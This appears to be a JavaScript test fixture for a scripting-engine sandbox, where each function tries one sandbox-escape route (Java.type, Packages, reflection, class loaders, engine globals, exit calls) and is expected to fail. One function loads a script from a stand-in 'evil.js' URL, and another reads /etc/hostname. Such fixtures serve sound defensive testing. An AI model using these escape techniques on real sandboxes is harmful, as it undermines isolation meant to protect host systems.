/* Each function tries one way out of the sandbox; each must fail as that record's UDF error. */
function javaType(inJson) {
  var Runtime = Java.type('java.lang.Runtime');
  return String(Runtime.getRuntime().availableProcessors());
}

function packages(inJson) {
  return String(Packages.java.lang.System.getProperty('user.home'));
}

function javaGlobal(inJson) {
  return String(java.lang.System.getProperty('user.home'));
}

function javaxGlobal(inJson) {
  return String(new javax.script.ScriptEngineManager());
}

function javaImporter(inJson) {
  var imports = new JavaImporter(java.io);
  return String(imports);
}

function loadFile(inJson) {
  load('/etc/hostname');
  return inJson;
}

function loadUrl(inJson) {
  load('https://example.com/evil.js');
  return inJson;
}

function loadNewGlobal(inJson) {
  return String(loadWithNewGlobal({ script: 'java.lang.System.exit(3)', name: 'x.js' }));
}

function exitProcess(inJson) {
  exit(3);
  return inJson;
}

function quitProcess(inJson) {
  quit(3);
  return inJson;
}

function polyglot(inJson) {
  return String(Polyglot.eval('js', '1'));
}

function engineGlobal(inJson) {
  var unsandboxed = engine.getFactory().getScriptEngine();
  return String(unsandboxed.eval('java.lang.System.getProperty("user.home")'));
}

function contextGlobal(inJson) {
  context.getWriter().println('escaped');
  return inJson;
}

function reflection(inJson) {
  var runtimeClass = inJson.getClass().forName('java.lang.Runtime');
  return String(runtimeClass);
}

function classLoader(inJson) {
  return String(inJson.getClass().getClassLoader());
}

function globalThisJava(inJson) {
  var global = Function('return this')();
  return String(global['Java'].type('java.lang.System'));
}
